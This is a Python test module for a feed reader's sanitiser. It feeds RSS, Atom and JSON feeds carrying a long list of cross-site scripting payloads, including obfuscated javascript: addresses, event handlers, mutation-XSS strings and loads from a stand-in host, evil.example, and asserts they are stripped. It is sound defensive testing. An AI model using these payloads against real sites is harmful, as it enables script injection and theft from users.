"""What would run in a reader: in content, titles, names and addresses."""

from __future__ import annotations

import json
import re
from xml.sax.saxutils import escape

from cases import (
    OK,
    Case,
    Seen,
    answer,
    described,
    has,
    item,
    jsonfeed,
    one,
    together,
    words,
)
from world import rss

_ACTIVE = {
    "a script": "<script>alert(1)</script>",
    "a script in pieces": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "a script without end": "<script>alert(1)//",
    "a script in odd case": "<ScRiPt/x>alert(1)</sCrIpT >",
    "a script from elsewhere": "<script src=//evil.example/x.js></script>",
    "handlers": "<img src=x onerror=alert(1)><p onclick='alert(1)' ONMOUSEOVER=alert(1)>x</p><details ontoggle=x open>",
    "handlers behind slashes": '<img/src="x"/onerror=alert(1)><p/onclick=alert(1)//>',
    "javascript addresses": "<a href='javascript:alert(1)'>x</a><img src='javascript:alert(1)'>",
    "javascript in disguise": "<a href='jAvA&#x09;script&colon;alert(1)'>x</a><a href='&#1;javascript:x'>y</a>"
    "<a href=' &#x6A;&#x61;vascript:alert(1)'>z</a><a href='java\nscript:alert(1)'>w</a>",
    "data addresses": "<a href='data:text/html,<script>x</script>'>x</a><img src='data:image/svg+xml,<svg onload=x>'>",
    "other schemes": "<a href='vbscript:x'>x</a><a href='feed:javascript:x'>y</a><a href='file:///etc/passwd'>z</a>"
    "<a href='blob:x'>b</a><a href='view-source:x'>v</a><a href='intent:x'>i</a>",
    "svg": "<svg onload=alert(1)><script>alert(1)</script><a xlink:href='javascript:x'><text>x</text></a></svg>",
    "svg use": "<svg><use href='data:image/svg+xml,x#y'/><animate attributeName=href values=javascript:x /></svg>",
    "mathml": "<math><maction actiontype=statusline xlink:href='javascript:x'>x</maction></math>",
    "style": "<style>@import '//evil.example';</style><p style='background:url(javascript:x)'>x</p>"
    "<p style='width:expression(alert(1))'>y</p>",
    "iframe": "<iframe src='//evil.example'></iframe><iframe srcdoc='<script>x</script>'></iframe>",
    "object and embed": "<object data=x.swf><param name=a></object><embed src=x.swf><applet code=x></applet>",
    "form": "<form action='//evil.example'><input autofocus onfocus=x><button formaction='javascript:x'>x</button>"
    "<textarea>y</textarea><select><option>z</select></form>",
    "meta and base": "<meta http-equiv=refresh content='0;url=javascript:x'><base href='javascript:/'>"
    "<link rel=stylesheet href=//evil.example>",
    "template": "<template><script>x</script></template><slot onslotchange=x></slot>",
    "frames": "<frameset onload=x><frame src=javascript:x></frameset><noframes><script>x</script></noframes>",
    "conditional comments": "<!--[if gte IE 4]><script>x</script><![endif]--><!--><img src=x onerror=x>-->",
    "mutation by noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "mutation by mathml": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1'
    ' onerror=alert(1)&gt;">',
    "mutation by form": "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "mutation by svg": '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "mutation by textarea": '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
    "mutation by xmp": '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
    "mutation by plaintext": "<plaintext><img src=x onerror=alert(1)>",
    "mutation by title": '<title><p title="</title><img src=x onerror=alert(1)>"></title>',
    "mutation by select": "<select><script>x</script><img src=x onerror=x></select>",
    "markup that is escaped twice": "&lt;script&gt;alert(1)&lt;/script&gt;&lt;img src=x onerror=alert(1)&gt;",
    "a null byte in a tag": "<scr\0ipt>alert(1)</scr\0ipt><img src=x on\0error=alert(1)>",
    "attributes without end": "<a href='http://a.example/\"onmouseover=alert(1) x=<b>'>x</a>"
    "<img alt='`><script>x</script>",
    "srcset and ping": "<img srcset='javascript:x 1x' src=http://a.example/x>"
    "<a ping=//evil.example href=http://a.example>x</a>",
    "video": "<video poster=javascript:x onerror=x><source src=javascript:x onerror=x></video><audio src=data:x>",
    "a pixel": "<img src=//evil.example/p.gif width=1 height=1 referrerpolicy=unsafe-url>",
    "xml in html": "<?xml-stylesheet href='javascript:x'?><![CDATA[<script>x</script>]]><x:script>y</x:script>",
}

_ATOM = (
    '<?xml version="1.0"?><feed xmlns="http://www.w3.org/2005/Atom"><title type="html">{title}</title>'
    "<id>urn:x:{name}</id>"
    "{top}<entry><id>urn:x:{name}:1</id>{entry}</entry></feed>"
)


def _atom(name: str, entry: str, title: str = "T", top: str = "") -> bytes:
    return _ATOM.format(name=name, entry=entry, title=title, top=top).encode()


_EVIL = (
    "javascript:alert(1)",
    "data:text/html,&lt;script&gt;x&lt;/script&gt;",
    "vbscript:x",
    "feed:javascript:x",
    " java&#x0A;script:alert(1)",
    "&#1;javascript:alert(1)",
    "JaVaScRiPt://a.example/%0aalert(1)",
    "//a:b@[::1",
    "file:///etc/passwd",
    "about:blank",
    "http:javascript:alert(1)",
)
_TITLES = (
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&lt;img src=x onerror=alert(1)&gt;",
    "&lt;svg/onload=alert(1)&gt;",
    "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    "&amp;lt;img src=x onerror=alert(1)&amp;gt;&lt;b&gt;bold&lt;/b&gt;",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<![CDATA[<iframe src=javascript:x></iframe>]]>",
    "&lt;a href=javascript:x&gt;link&lt;/a&gt;",
)


def _with_titles(name: str, element: str = "title") -> bytes:
    return rss(
        *(
            f"<guid>{name}{n}</guid><{element}>{title}</{element}><description>{words(name, n)}</description>"
            for n, title in enumerate(_TITLES)
        ),
        title=_TITLES[0],
    )


def _with_addresses(name: str, element: str) -> bytes:
    """{} in the element is the address."""
    return rss(
        *(
            f"<guid isPermaLink='false'>{name}{n}</guid><title>{name} {n}</title>{element.replace('{}', evil)}"
            f"<description>{words(name, n)}</description>"
            for n, evil in enumerate(_EVIL)
        )
    )


def _nowhere(seen: Seen) -> None:
    """The addresses that would run are gone; of what isn't told by its name the edition was looked at as a whole."""
    assert all(entry["url"].startswith(("http://", "https://")) or not entry["url"] for entry in seen.entries)
    assert not re.search(r'"\s*(?:javascript|vbscript|data|file|about|feed):', json.dumps(seen.items), re.IGNORECASE)


def _no_markup(seen: Seen) -> None:
    for shown in seen.items:
        told = json.dumps([shown.get(key) for key in ("title", "authors", "tags", "_source", "_rights")])
        assert not re.search(r"<script[^<]*</script|<\w[^>]*(?:\bon\w+=|script:)", told, re.IGNORECASE), told


_PLACES = {
    "links": "<link>{}</link>",
    "guids as links": "<guid isPermaLink='true'>{}</guid>",
    "comments": "<comments>{}</comments>",
    "enclosures": "<enclosure url='{}' type='audio/mpeg' length='1'/>",
    "sources": "<source url='{}'>S</source>",
    "media": "<media:content xmlns:media='http://search.yahoo.com/mrss/' url='{}' medium='video'/>"
    "<media:thumbnail xmlns:media='http://search.yahoo.com/mrss/' url='{}'/>",
    "podcast images": "<itunes:image xmlns:itunes='http://www.itunes.com/dtds/podcast-1.0.dtd' href='{}'/>",
}

ACTIVE = (
    *(
        Case(
            f"active {name}",
            OK,
            entries=2,
            plays=answer(described(f"active {name}", markup)),
            check=has("before active"),
        )
        for name, markup in _ACTIVE.items()
    ),
    *(
        Case(
            f"active {name} in atom",
            OK,
            entries=1,
            plays=answer(
                _atom(
                    name,
                    "<title>t</title><content type='html'>"
                    + escape(f"<p>before {words(name)}</p>{_ACTIVE[name]}")
                    + "</content>",
                ),
                "application/atom+xml",
            ),
        )
        for name in ("a script", "handlers", "svg", "javascript in disguise")
    ),
    *(
        Case(
            f"active {name} in json",
            OK,
            entries=1,
            plays=answer(
                jsonfeed(
                    {"id": name, "title": "t", "content_html": f"<p>before {words('j' + name)}</p>" + _ACTIVE[name]}
                )
            ),
        )
        for name in ("a script", "handlers", "svg", "javascript in disguise")
    ),
    Case(
        "active xhtml",
        OK,
        entries=1,
        plays=answer(
            _atom(
                "xhtml",
                "<title type='xhtml'><div xmlns='http://www.w3.org/1999/xhtml'>x<script>y</script></div></title>"
                "<content type='xhtml'><div xmlns='http://www.w3.org/1999/xhtml'><script>alert(1)</script>"
                "<svg xmlns='http://www.w3.org/2000/svg' onload='x'><script>y</script></svg>"
                f"<p onclick='x'>{words('axhtml')}</p></div></content>",
            )
        ),
    ),
    Case(
        "active content of other types",
        OK,
        entries=1,
        plays=answer(
            _atom(
                "types",
                "<title>types</title><content type='image/svg+xml'>"
                "<svg xmlns='http://www.w3.org/2000/svg'><script>x</script></svg></content>"
                f"<content type='text/html' src='javascript:x'/><summary>{words('atypes')}</summary>",
            )
        ),
    ),
    Case(
        "active base",
        OK,
        entries=1,
        plays=answer(
            _atom(
                "base",
                "<title>base</title><link href='x'/><content type='html' xml:base='javascript:alert(1)//'>"
                f"{escape('<a href=x>x</a> ' + words('abase'))}</content>",
                top="<link href='javascript:x'/>",
            ).replace(b"<feed", b"<feed xml:base='javascript:alert(1)//'")
        ),
        check=_nowhere,
    ),
    Case("active titles", OK, entries=len(_TITLES), plays=answer(_with_titles("titles")), check=_no_markup),
    Case(
        "active titles in atom",
        OK,
        entries=1,
        plays=answer(
            _atom("at", f"<title type='html'>{_TITLES[0]}x</title><summary>{words('at')}</summary>", _TITLES[1])
        ),
        check=_no_markup,
    ),
    Case(
        "active titles in json",
        OK,
        entries=2,
        plays=answer(
            jsonfeed(
                {"id": "jt", "title": "<script>alert(1)</script>", "content_text": words("jt")},
                {"id": "jt2", "title": "<img src=x onerror=alert(1)>", "content_text": words("jt2")},
                title="<script>x</script>",
            )
        ),
        check=_no_markup,
    ),
    Case(
        "active categories",
        OK,
        entries=1,
        plays=answer(
            one(
                "cats",
                "".join(f"<category>{t}</category>" for t in _TITLES),
                f"<description>{words('cats')}</description>",
            )
        ),
        check=_no_markup,
    ),
    Case(
        "active authors",
        OK,
        entries=1,
        plays=answer(
            one(
                "auth", "".join(f"<author>{t}</author>" for t in _TITLES), f"<description>{words('auth')}</description>"
            )
        ),
        check=_no_markup,
    ),
    Case(
        "active authors in atom",
        OK,
        entries=1,
        plays=answer(
            _atom(
                "aa",
                "<title>aa</title>"
                + "".join(
                    f"<author><name>{_TITLES[n % 8]}</name><uri>{evil}</uri><email>{evil}</email></author>"
                    for n, evil in enumerate(_EVIL)
                )
                + f"<summary>{words('aa')}</summary>",
            )
        ),
        check=together(_nowhere, _no_markup),
    ),
    Case(
        "active authors in json",
        OK,
        entries=1,
        plays=answer(
            jsonfeed(
                {
                    "id": "aj",
                    "content_text": words("aj"),
                    "authors": [
                        {"name": f"x{n}", "url": u} for n, u in enumerate(("javascript:x", "data:x", "java\nscript:x"))
                    ],
                }
            )
        ),
    ),
    Case(
        "active rights",
        OK,
        entries=1,
        plays=answer(
            _atom(
                "rights",
                f"<title>r</title><rights type='html'>{_TITLES[0]}{_TITLES[1]}</rights>"
                f"<summary>{words('rights')}</summary>",
            )
        ),
        check=_no_markup,
    ),
    *(
        Case(
            f"active {name}",
            OK,
            entries=len(_EVIL),
            plays=answer(_with_addresses(name.split()[0], element)),
            check=_nowhere,
        )
        for name, element in _PLACES.items()
    ),
    Case(
        "active addresses in json",
        OK,
        entries=1,
        plays=answer(
            jsonfeed(
                {
                    "id": "aaj",
                    "url": "javascript:x",
                    "external_url": "data:x",
                    "image": "javascript:x",
                    "banner_image": "vbscript:x",
                    "attachments": [{"url": "javascript:x", "mime_type": "text/html"}],
                    "content_text": words("aaj"),
                    "_comments": "javascript:x",
                    "_source": {"title": "<script>x</script>", "home_page_url": "javascript:x", "feed_url": "data:x"},
                },
                home_page_url="javascript:x",
            )
        ),
        check=_nowhere,
    ),
    Case(
        "active site",
        OK,
        entries=1,
        plays=answer(
            rss(
                item("site", 1, f"<description>{words('site')}</description>"),
                title="<![CDATA[<script>x</script>]]>",
                channel="<link>javascript:alert(1)</link><description><![CDATA[<script>x</script>]]></description>",
            )
        ),
        check=_nowhere,
    ),
)
